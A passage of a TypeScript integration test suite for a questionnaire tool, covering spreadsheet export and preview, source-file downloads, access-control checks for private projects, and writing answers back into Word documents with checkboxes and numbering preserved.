      ([address, cell]) => !address.startsWith('!') && (cell as XLSX.CellObject).f,
    );
    expect(formulaCells).toEqual([]);
    expect(sheet.D3.t).toBe('s');
    expect(String(sheet.D3.v)).toContain('HYPERLINK');
  });

  it('previews the columns, the first rows and the counts without writing a file', async () => {
    // Act
    const preview = ok(
      await as(member).call('previewExport', {
        params: { projectId },
        body: { kind: 'DATA', format: 'xlsx' },
      }),
      'previewExport',
    );
    // Assess
    expect(preview).toMatchObject({
      fileName: `Umbrella Q3 Q4 Review - Export ${today()}.xlsx`,
      columns: [...DATA_EXPORT_COLUMNS],
      questionCount: 3,
      answeredCount: 2,
    });
    expect(preview.rows).toHaveLength(3);
    expect(preview.rows[0][2]).toBe('Do you perform background checks on new employees?');
  });
});

// ——— Downloads and access ———

describe('downloading the original and who may', () => {
  let projectId: string;
  let projectSourceId: string;
  let bytes: Uint8Array;

  beforeAll(async () => {
    ({ bytes } = await buildQuestionnaireXlsx({ questions: 8, title: 'Soylent Due Diligence' }));
    ({ projectId } = await createProject('Soylent Due Diligence'));
    ({ projectSourceId } = await importFile(projectId, 'Soylent – Due Diligence.xlsx', bytes));
  });

  it('gives the original bytes unchanged, saved under the original name', async () => {
    // Act
    const link = ok<{ url: string; fileName: string }>(
      await as(member).call('downloadSource', { params: { projectId, projectSourceId } }),
      'downloadSource',
    );
    const downloaded = await download(link.url);
    // Assess
    expect(link.fileName).toBe('Soylent – Due Diligence.xlsx');
    expect(Buffer.from(downloaded.bytes).equals(Buffer.from(bytes))).toBe(true);
    expect(downloaded.disposition).toContain(`filename*=UTF-8''Soylent%20%E2%80%93%20Due%20Diligence.xlsx`);
  });

  it('answers 404 to everything for a PRIVATE project the caller is not on, and to another team', async () => {
    // Prepare
    const project = ok<{ version: number }>(
      await as(manager).call('getProject', { params: { projectId } }),
      'get',
    );
    ok(
      await as(manager).call('updateProjectAccess', {
        params: { projectId },
        body: { accessVisibility: 'PRIVATE', shareWith: [], version: project.version },
      }),
      'updateProjectAccess',
    );
    const source = { kind: 'SOURCE' as const, projectSourceId };
    const data = { kind: 'DATA' as const, format: 'csv' as const };
    // Act
    const replies = await Promise.all(
      [member, outsider].flatMap((person) => [
        as(person).call('downloadSource', { params: { projectId, projectSourceId } }),
        as(person).call('exportQuestions', { params: { projectId }, body: data }),
        as(person).call('exportQuestions', { params: { projectId }, body: source }),
        as(person).call('previewExport', { params: { projectId }, body: data }),
      ]),
    );
    const byManager = await as(manager).call('downloadSource', { params: { projectId, projectSourceId } });
    // Assess
    expect(replies.map((r) => r.status)).toEqual(Array(8).fill(404));
    expect(byManager.status).toBe(200);
  });

  it('accepts wording only for the project, its files and its sheets; blank wording falls back', async () => {
    // Prepare
    const other = await createProject('Another Project');
    const update = (id: string, overrides: Record<string, Record<string, string>>) =>
      as(manager).call('updateComplianceOverrides', { params: { projectId: id }, body: { overrides } });
    ok(await update(projectId, { [projectSourceId]: { compliant: 'Yes', nonCompliant: 'No' } }), 'set');
    // Act
    const foreign = await update(other.projectId, { [projectSourceId]: { compliant: 'Yes' } });
    const cleared = ok(
      await update(projectId, { [projectSourceId]: { compliant: ' ', nonCompliant: '' } }),
      'clear',
    );
    // Assess
    expect(foreign.status).toBe(400);
    expect(foreign.body.fieldErrors.overrides).toEqual([
      'Wording can be set for this project, its files and sheets only',
    ]);
    expect(cleared).toEqual({});
    expect(ok(await as(manager).call('getComplianceOverrides', { params: { projectId } }), 'get')).toEqual(
      {},
    );
  });
});

// ——— Word ———

describe('an answered Word questionnaire, written back into the customer’s own document', () => {
  it('round-trips: answers into the ANSWER cells and after the questions, read with mammoth, then imported again', async () => {
    // Prepare: numbered questions (the first with an ANSWER paragraph, the others without) and a
    // Question | Answer | Compliance table, annotated as a user would.
    const built = await buildQuestionnaireDocx({ paragraphs: 4, tableRows: 3 });
    const { projectId } = await createProject('Hooli Supplier Questionnaire');
    const source = await importFile(projectId, 'Hooli Supplier Questionnaire.docx', built.bytes);
    const detail = ok<DocumentDetail>(
      await as(manager).call('getDocument', {
        params: { projectId, projectSourceId: source.projectSourceId },
      }),
      'getDocument',
    );
    const content = (await (await fetch(detail.contentUrl)).json()) as DocumentContent;
    const nodeOf = (text: string, kind: string) => {
      const node = content.nodes.find((n) => n.kind === kind && n.text === text);
      if (!node) throw new Error(`No ${kind} reads "${text}"`);
      return node;
    };
    const annotation = (
      nodeId: string,
      annotationType: Annotation['annotationType'],
      parentNodeId?: string,
    ) => ({
      nodeId,
      annotationType,
      ...(parentNodeId ? { parentNodeId } : {}),
      inTable: nodeId.startsWith('t'),
      ...(nodeId.startsWith('t') ? { rowNodeId: nodeId.replace(/\.c\d+$/, '') } : {}),
      hasContent: false,
      text: '',
    });
    const paragraphs = built.paragraphQuestions.map((q) => nodeOf(q, 'paragraph').nodeId);
    const nextParagraph = (nodeId: string) => `p${Number(nodeId.slice(1)) + 1}`;
    const cells = built.tableQuestions.map((q) => nodeOf(q, 'cell').nodeId);
    const cellAt = (nodeId: string, column: number) => nodeId.replace(/\.c\d+$/, `.c${column}`);
    const annotations = [
      ...paragraphs.map((nodeId) => annotation(nodeId, 'QUESTION')),
      annotation(nextParagraph(paragraphs[0]), 'ANSWER', paragraphs[0]),
      ...cells.flatMap((nodeId) => [
        annotation(nodeId, 'QUESTION'),
        annotation(cellAt(nodeId, 1), 'ANSWER', nodeId),
        annotation(cellAt(nodeId, 2), 'COMPLIANCE', nodeId),
      ]),
    ];
    const configured = ok<{ questionCount: number }>(
      await as(manager).call('configureDocument', {
        params: { projectId, projectSourceId: source.projectSourceId },
        body: {
          annotations,
          configuration: { documentTableFillEnabled: false, tableFillEnabled: false },
          isLinked: true,
          version: detail.version,
        },
      }),
      'configureDocument',
    );
    expect(configured.questionCount).toBe(paragraphs.length + cells.length);
    const byText = new Map((await questionsOf(projectId)).map((q) => [q.question, q.questionId]));
    const answers = [
      {
        question: built.paragraphQuestions[0],
        answer: 'Yes. We review it every year.',
        classification: 'COMPLIANT',
      },
      {
        question: built.paragraphQuestions[2],
        answer: 'Our CISO owns the programme.',
        classification: 'COMPLIANT',
      },
      { question: built.tableQuestions[0], answer: 'Yes, with hardware keys.', classification: 'COMPLIANT' },
      { question: built.tableQuestions[2], answer: 'Not yet.', classification: 'NON-COMPLIANT' },
    ] as const;
    for (const { question, answer: text, classification } of answers) {
      ok(
        await as(member).call('updateQuestion', {
          params: { projectId, questionId: byText.get(question) as string },
          body: { answer: text, responseClassification: classification },
        }),
        'updateQuestion',
      );
    }
    ok(
      await as(manager).call('updateComplianceOverrides', {
        params: { projectId },
        body: { overrides: { [source.projectSourceId]: { compliant: 'Meets' } } },
      }),
      'wording',
    );

    // Act
    const preview = ok(
      await as(member).call('previewExport', {
        params: { projectId },
        body: { kind: 'SOURCE', projectSourceId: source.projectSourceId },
      }),
      'previewExport',
    );
    const exported = await exportFile(projectId, { kind: 'SOURCE', projectSourceId: source.projectSourceId });

    // Assess: the preview names the places.
    expect(preview.questionCount).toBe(paragraphs.length + cells.length);
    expect(preview.answeredCount).toBe(answers.length);
    const [table, row] = /^t(\d+)\.r(\d+)/.exec(cells[0])?.slice(1).map(Number) ?? [];
    expect(preview.rows).toContainEqual([
      `Table ${table + 1}, row ${row + 1}`,
      built.tableQuestions[0],
      'Yes, with hardware keys.',
      'Meets',
    ]);
    expect(preview.rows).toContainEqual([
      `Paragraph ${Number(paragraphs[2].slice(1)) + 1}`,
      built.paragraphQuestions[2],
      'Our CISO owns the programme.',
      '',
    ]);
    // The document read by mammoth: each answer right after its question, nothing else moved.
    expect(exported.fileName).toBe('Hooli Supplier Questionnaire (answered).docx');
    const text = (await mammoth.extractRawText({ buffer: Buffer.from(exported.bytes) })).value;
    const originalText = (await mammoth.extractRawText({ buffer: Buffer.from(built.bytes) })).value;
    const lines = text.split('\n').filter((line) => line.trim());
    const after = (line: string) => lines[lines.indexOf(line) + 1];
    expect(after(built.paragraphQuestions[2])).toBe('Our CISO owns the programme.');
    expect(after(built.paragraphQuestions[1])).toBe(built.paragraphQuestions[2]);
    expect(after(built.paragraphQuestions[0])).toBe('Yes. We review it every year.');
    expect(after(built.tableQuestions[0])).toBe('Yes, with hardware keys.');
    expect(after('Yes, with hardware keys.')).toBe('Meets');
    expect(after(built.tableQuestions[1])).toBe(built.tableQuestions[2]);
    expect(after(built.tableQuestions[2])).toBe('Not yet.');
    expect(after('Not yet.')).toBe('Non-Compliant');
    const added = [
      'Yes. We review it every year.',
      'Our CISO owns the programme.',
      'Yes, with hardware keys.',
      'Meets',
      'Not yet.',
      'Non-Compliant',
    ];
    expect(lines.filter((line) => !added.includes(line))).toEqual(
      originalText.split('\n').filter((line) => line.trim()),
    );
    // Styles and numbering kept: only the body changed.
    const before = unzipSync(built.bytes);
    const written = unzipSync(exported.bytes);
    for (const part of Object.keys(before).filter((name) => name !== 'word/document.xml')) {
      expect(Buffer.from(written[part]).equals(Buffer.from(before[part]))).toBe(true);
    }

    // Act: the answered document imported again.
    const again = await importFile(projectId, exported.fileName, exported.bytes);
    const againDetail = ok<DocumentDetail>(
      await as(manager).call('getDocument', {
        params: { projectId, projectSourceId: again.projectSourceId },
      }),
      'getDocument',
    );
    const againContent = (await (await fetch(againDetail.contentUrl)).json()) as DocumentContent;
    const textOf = (nodeId: string) => againContent.nodes.find((n) => n.nodeId === nodeId)?.text;

    // Assess: the table's ANSWER and COMPLIANCE cells hold them, in the same cells.
    expect(textOf(cells[0])).toBe(built.tableQuestions[0]);
    expect(textOf(cellAt(cells[0], 1))).toBe('Yes, with hardware keys.');
    expect(textOf(cellAt(cells[0], 2))).toBe('Meets');
    expect(textOf(cellAt(cells[1], 1))).toBe('');
    expect(textOf(cellAt(cells[2], 1))).toBe('Not yet.');
    expect(textOf(cellAt(cells[2], 2))).toBe('Non-Compliant');
  });

  it('numbered by Word: configured from the suggestion with numbers and sections, each answer written into its own place', async () => {
    // Prepare: a questionnaire numbered by Word (1., 1.1, a.), with headings, a lead-in, every
    // kind of answer place and a Ref | Question | Response | Compliance table.
    const built = await buildNumberedQuestionnaireDocx();
    const { projectId } = await createProject('Vendor Security Assessment');
    const source = await importFile(projectId, 'Vendor Security Assessment.docx', built.bytes);
    const params = { projectId, projectSourceId: source.projectSourceId };
    const detail = ok<DocumentDetail>(await as(manager).call('getDocument', { params }), 'getDocument');

    // Act: configured as suggested.
    const configured = ok<{ questionCount: number }>(
      await as(manager).call('configureDocument', {
        params,
        body: {
          annotations: detail.suggestion,
          configuration: { documentTableFillEnabled: false, tableFillEnabled: false },
          isLinked: true,
          version: detail.version,
        },
      }),
      'configureDocument',
    );

    // Assess: every question once, its number as reference (not in its text), its heading as section.
    expect(configured.questionCount).toBe(built.questions.length);
    const listed = ok<{
      items: Array<{
        questionId: string;
        referenceNumber?: string;
        question: string;
        sectionDescription?: string;
      }>;
    }>(
      await as(member).call('listQuestions', { params: { projectId }, query: { limit: 1000 } }),
      'listQuestions',
    );
    const shown = (q: { referenceNumber?: string; question: string; sectionDescription?: string }) => ({
      reference: q.referenceNumber,
      text: q.question,
      section: q.sectionDescription,
    });
    expect(listed.items.map(shown).sort((a, b) => a.text.localeCompare(b.text))).toEqual(
      built.questions
        .map((q) => ({ reference: q.reference, text: q.text, section: q.section }))
        .sort((a, b) => a.text.localeCompare(b.text)),
    );

    // Act: answered (the boxes-only question with No), then exported.
    const answerOf = (i: number) =>
      built.questions[i].place === 'checkboxes' ? 'No' : `Answer to ${built.questions[i].reference}`;
    for (const [i, q] of built.questions.entries()) {
      const question = listed.items.find((item) => item.question === q.text)!;
      ok(
        await as(member).call('updateQuestion', {
          params: { projectId, questionId: question.questionId },
          body: {
            answer: answerOf(i),
            responseClassification: q.place === 'checkboxes' ? 'NON-COMPLIANT' : 'COMPLIANT',
          },
        }),
        'updateQuestion',
      );
    }
    const exported = await exportFile(projectId, { kind: 'SOURCE', projectSourceId: source.projectSourceId });

    // Assess: mammoth reads the original's paragraphs with each answer in its place, the boxes
    // ticked, and nothing else; our reader finds the same nodes (no paragraph added).
    const linesOf = async (bytes: Uint8Array) =>
      (await mammoth.extractRawText({ buffer: Buffer.from(bytes) })).value
        .split('\n')
        .filter((l) => l.trim());
    const before = await linesOf(built.bytes);
    const changed = new Map<number, string[]>(before.map((line, at) => [at, [line]]));
    for (const [i, q] of built.questions.entries()) {
      const at = before.indexOf(q.text);
      if (q.place === 'paragraph' || q.place === 'box') changed.set(at, [q.text, answerOf(i)]);
      if (q.place === 'cell') changed.set(at, [q.text, answerOf(i), 'Compliant']);
      if (q.place === 'label') changed.set(at + 1, ['Response:', answerOf(i)]);
      if (q.place === 'checkboxes+paragraph')
        changed.set(at + 1, ['☒ Yes ☐ No ☐ Not applicable', answerOf(i)]);
      if (q.place === 'checkboxes') changed.set(at + 1, ['☐ Yes ☒ No ☐ Not applicable']);
    }
    expect(await linesOf(exported.bytes)).toEqual([...changed.values()].flat());
    const original = await readDocument(built.bytes);
    const reread = await readDocument(exported.bytes);
    expect(reread.nodes.map((n) => n.nodeId)).toEqual(original.nodes.map((n) => n.nodeId));
    const place = (i: number) =>
      detail.suggestion.find(
        (a) =>
          a.annotationType === 'ANSWER' &&
          a.parentNodeId === detail.suggestion.filter((s) => s.annotationType === 'QUESTION')[i].nodeId,
      )!.nodeId;
    expect(reread.nodes.find((n) => n.nodeId === place(0))?.text).toBe(answerOf(0));
    const files = [unzipSync(built.bytes), unzipSync(exported.bytes)];
    for (const part of Object.keys(files[0]).filter((name) => name !== 'word/document.xml'))
      expect(Buffer.from(files[1][part]).equals(Buffer.from(files[0][part])), part).toBe(true);
  });

  it('the Word family: boxes in symbol fonts ticked in their font, answers after a label replaced, sub-lists numbered under their lead-in', async () => {
    // Prepare: the family's Word questionnaire (test/fixtures/families), configured as suggested.
    const fixture = readFamilySet().files.find((f) => f.name === 'word-numbered') as Extract<
      FamilyFixture,
      { format: 'docx' }
    >;
    const { projectId } = await createProject('Family Word questionnaire');
    const source = await importFile(projectId, 'Family questionnaire.docx', fixture.bytes);
    const params = { projectId, projectSourceId: source.projectSourceId };
    const detail = ok<DocumentDetail>(await as(manager).call('getDocument', { params }), 'getDocument');
    ok(
      await as(manager).call('configureDocument', {
        params,
        body: {
          annotations: detail.suggestion,
          configuration: detail.configuration,
          isLinked: true,
          version: detail.version,
        },
      }),
      'configureDocument',
    );
    const listed = ok<{
      items: Array<{ questionId: string; referenceNumber?: string; question: string; answer?: string }>;
    }>(
      await as(member).call('listQuestions', { params: { projectId }, query: { limit: 1000 } }),
      'listQuestions',
    );
    const truth = (kind: string) => fixture.truth.questions.filter((q) => q.answerPlace.kind === kind);
    const itemOf = (text: string) => listed.items.find((item) => item.question === text)!;

    // Act: the boxes answered Yes, the held answers replaced.
    for (const q of [...truth('symbol-checkbox'), ...truth('labelled-answer')]) {
      ok(
        await as(member).call('updateQuestion', {
          params: { projectId, questionId: itemOf(q.text).questionId },
          body: { answer: q.answerPlace.kind === 'symbol-checkbox' ? 'Yes' : `New answer to ${q.reference}` },
        }),
        'updateQuestion',
      );
    }
    const exported = await exportFile(projectId, { kind: 'SOURCE', projectSourceId: source.projectSourceId });

    // Assess: every question with its full number; a held answer imported without its label.
    expect(listed.items).toHaveLength(fixture.truth.questions.length);
    for (const q of fixture.truth.questions)
      expect(itemOf(q.text)?.referenceNumber, q.text).toBe(q.reference || undefined);
    for (const q of truth('labelled-answer')) expect(itemOf(q.text).answer).toBe(q.existingAnswer);
    const reread = await readDocument(exported.bytes);
    const textAt = (id: string) => reread.nodes.find((n) => n.nodeId === id)?.text;
    for (const q of truth('symbol-checkbox')) expect(textAt(q.answerPlace.nodeId)).toMatch(/^☒ Yes\s+☐ No$/);
    for (const q of truth('labelled-answer'))
      expect(textAt(q.answerPlace.nodeId)).toBe(`Answer: New answer to ${q.reference}`);
    const xml = strFromU8(unzipSync(exported.bytes)['word/document.xml']);
    expect(xml).toContain('<w:sym w:font="Wingdings" w:char="F0FE"/>');
    expect(xml).toMatch(/w:ascii="Wingdings 2"[^>]*\/><\/w:rPr><w:t xml:space="preserve">R<\/w:t>/);
    expect(reread.nodes.map((n) => n.nodeId)).toEqual(
      (await readDocument(fixture.bytes)).nodes.map((n) => n.nodeId),
    );
  });
});
